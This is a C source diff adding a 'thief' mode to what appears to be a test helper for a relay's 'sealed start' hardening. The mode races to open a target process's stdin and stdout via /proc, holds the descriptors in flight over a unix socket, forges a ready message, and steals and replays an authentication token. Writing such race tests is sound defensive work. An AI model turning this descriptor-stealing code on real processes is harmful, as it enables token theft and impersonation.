@@ -21,17 +21,36 @@
  *   listen PORTFILE SECS  a listener of the agent's own (port written to
  *                  PORTFILE): prints "hello" if a relay sent it a HELLO (the
  *                  token) within SECS, else "nothing"
+ *   thief NAME SECS LOG [forge]  the relay-token race (docs/turn.md "sealed
+ *                  start"): makes itself non-dumpable, forks a stopped child
+ *                  holding one end of a unix socket pair, then spins over /proc
+ *                  for SECS seconds; for every new process called NAME it
+ *                  opens /proc/PID/fd/0 and fd/1 at once and again (before the
+ *                  relay hardens itself), sends each descriptor it got into the
+ *                  socket pair (in flight to the stopped child), with "forge"
+ *                  writes a forged ready line into fd 1, and reads what
+ *                  arrives on fd 0; a whole token line it uses on PORT (a HELLO
+ *                  for io). Every step is appended to LOG as it happens (the
+ *                  sweep kills the thief: LOG is what it leaves), one line each:
+ *                  "start", "opened 0 PID", "opened 1 PID", "forged PID",
+ *                  "in-flight N", "stole N", "used WORD", "end"; prints a summary
+ *                  line at the end, if it lives to see it.
  *
  * Output: "welcome" (the driver accepted), "closed" (it hung up on us),
  * "refused" (nothing listens), "held" (nothing happened before we gave up),
  * "bound N". Exit 0 whatever the outcome: the test judges the word. */
+#include <dirent.h>
 #include <errno.h>
+#include <fcntl.h>
 #include <netinet/in.h>
 #include <poll.h>
+#include <signal.h>
+#include <stdarg.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/prctl.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
@@ -86,6 +105,170 @@ static int parse_token(const char *hex, token_t *t)
         return token_from_hex(hex, strlen(hex), t, NULL);
 }
 
+/* ---- thief ---- */
+#define THIEF_MAX 64
+
+static int thief_log_fd = -1;
+
+static void thief_log(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+static void thief_log(const char *fmt, ...)
+{
+        char line[160];
+        va_list ap;
+        va_start(ap, fmt);
+        int n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
+        va_end(ap);
+        if (n < 0)
+                return;
+        if ((size_t)n > sizeof(line) - 2)
+                n = (int)sizeof(line) - 2;
+        line[n++] = '\n';
+        (void)!write(thief_log_fd, line, (size_t)n); /* O_APPEND: one line, at once */
+}
+
+static bool proc_comm_is(pid_t pid, const char *name)
+{
+        char path[64], comm[64];
+        (void)snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
+        int fd = open(path, O_RDONLY | O_CLOEXEC);
+        if (fd < 0)
+                return false;
+        ssize_t n = read(fd, comm, sizeof(comm) - 1);
+        (void)close(fd);
+        if (n <= 0)
+                return false;
+        comm[n] = '\0';
+        comm[strcspn(comm, "\n")] = '\0';
+        return strcmp(comm, name) == 0;
+}
+
+/* Opens /proc/PID/fd/FD with flags, as fast and as often as it takes. */
+static int grab(pid_t pid, int fdno, int flags)
+{
+        char path[64];
+        (void)snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, fdno);
+        for (int tries = 0; tries < 2000; tries++) {
+                int fd = open(path, flags | O_NONBLOCK | O_CLOEXEC);
+                if (fd >= 0 || errno == ENOENT || errno == ESRCH)
+                        return fd;
+        }
+        return -1;
+}
+
+/* The descriptor into the socket pair: in flight until the stopped child
+ * reads it, which it never does. */
+static void send_in_flight(int sock, int fd)
+{
+        char c = 'x';
+        struct iovec iov = {.iov_base = &c, .iov_len = 1};
+        union {
+                char buf[CMSG_SPACE(sizeof(int))];
+                struct cmsghdr align;
+        } u;
+        struct msghdr m = {.msg_iov = &iov,
+                           .msg_iovlen = 1,
+                           .msg_control = u.buf,
+                           .msg_controllen = sizeof(u.buf)};
+        struct cmsghdr *c0 = CMSG_FIRSTHDR(&m);
+        c0->cmsg_level = SOL_SOCKET;
+        c0->cmsg_type = SCM_RIGHTS;
+        c0->cmsg_len = CMSG_LEN(sizeof(int));
+        memcpy(CMSG_DATA(c0), &fd, sizeof(int));
+        static unsigned in_flight;
+        if (sendmsg(sock, &m, MSG_NOSIGNAL) == 1)
+                thief_log("in-flight %u", ++in_flight);
+}
+
+static int thief(uint16_t port, const char *name, uint32_t secs, const char *log, bool forge)
+{
+        thief_log_fd = open(log, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
+        if (thief_log_fd < 0)
+                return 1;
+        (void)prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
+        int sv[2];
+        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0)
+                return 1;
+        pid_t child = fork();
+        if (child == 0) {
+                (void)close(sv[0]);
+                for (;;)
+                        raise(SIGSTOP);
+        }
+        (void)close(sv[1]);
+        thief_log("start %d child %d", (int)getpid(), (int)child);
+        pid_t seen[THIEF_MAX];
+        int in[THIEF_MAX];
+        size_t n_seen = 0, n_in = 0;
+        char got[TOKEN_HEX_LEN + 2];
+        size_t got_len = 0;
+        uint64_t stolen = 0;
+        bool used = false;
+        int64_t end = conn_now_ms() + (int64_t)secs * 1000;
+        while (conn_now_ms() < end) {
+                DIR *d = opendir("/proc");
+                struct dirent *e;
+                while (d && (e = readdir(d))) {
+                        uint32_t v = 0;
+                        if (parse_u32(e->d_name, &v) < 0 || (pid_t)v == getpid() ||
+                            (pid_t)v == child)
+                                continue;
+                        pid_t pid = (pid_t)v;
+                        bool known = false;
+                        for (size_t i = 0; i < n_seen; i++)
+                                known = known || seen[i] == pid;
+                        if (known || n_seen >= THIEF_MAX || !proc_comm_is(pid, name))
+                                continue;
+                        seen[n_seen++] = pid;
+                        int r0 = grab(pid, 0, O_RDONLY);
+                        int w1 = grab(pid, 1, O_WRONLY);
+                        if (r0 >= 0) {
+                                thief_log("opened 0 %d", (int)pid);
+                                send_in_flight(sv[0], r0);
+                                if (n_in < THIEF_MAX)
+                                        in[n_in++] = r0;
+                        }
+                        if (w1 >= 0) {
+                                thief_log("opened 1 %d", (int)pid);
+                                send_in_flight(sv[0], w1);
+                                static const char forged[] =
+                                    "{\"relay\":\"ready\",\"window\":false,\"sealed\":true,"
+                                    "\"sweep\":{\"killed\":0}}\n";
+                                if (forge && write(w1, forged, sizeof(forged) - 1) > 0)
+                                        thief_log("forged %d", (int)pid);
+                        }
+                }
+                if (d)
+                        closedir(d);
+                for (size_t i = 0; i < n_in; i++) {
+                        char buf[256];
+                        ssize_t r = read(in[i], buf, sizeof(buf));
+                        if (r <= 0)
+                                continue;
+                        stolen += (uint64_t)r;
+                        thief_log("stole %zd", r);
+                        for (ssize_t k = 0; k < r && got_len < sizeof(got); k++)
+                                got[got_len++] = buf[k];
+                }
+                token_t t;
+                if (!used && port && got_len >= TOKEN_HEX_LEN &&
+                    token_from_hex(got, TOKEN_HEX_LEN, &t, NULL) == 0) {
+                        used = true;
+                        int fd = dial(port);
+                        if (fd >= 0) {
+                                send_hello(fd, t.bytes, FRAME_CHANNEL_IO);
+                                thief_log("used %s", outcome(fd, 3000));
+                        } else {
+                                thief_log("used refused");
+                        }
+                }
+        }
+        thief_log("end");
+        printf("{\"seen\": %zu, \"opened\": %zu, \"stolen\": %llu, \"used\": %s}\n", n_seen, n_in,
+               (unsigned long long)stolen, used ? "true" : "false");
+        (void)kill(child, SIGKILL);
+        return 0;
+}
+
 int main(int argc, char **argv)
 {
         uint32_t port = 0, n = 0;
@@ -94,6 +277,13 @@ int main(int argc, char **argv)
                 return 2;
         }
         const char *mode = argv[2];
+        if (strcmp(mode, "thief") == 0 && (argc == 6 || argc == 7)) {
+                uint32_t secs = 0;
+                if (parse_u32(argv[4], &secs) < 0 || secs == 0 || secs > 600 ||
+                    (argc == 7 && strcmp(argv[6], "forge") != 0))
+                        return 2;
+                return thief((uint16_t)port, argv[3], secs, argv[5], argc == 7);
+        }
         if (strcmp(mode, "bind") == 0) {
                 uint32_t secs = 0;
                 if (argc != 5 || parse_u32(argv[3], &n) < 0 || parse_u32(argv[4], &secs) < 0)
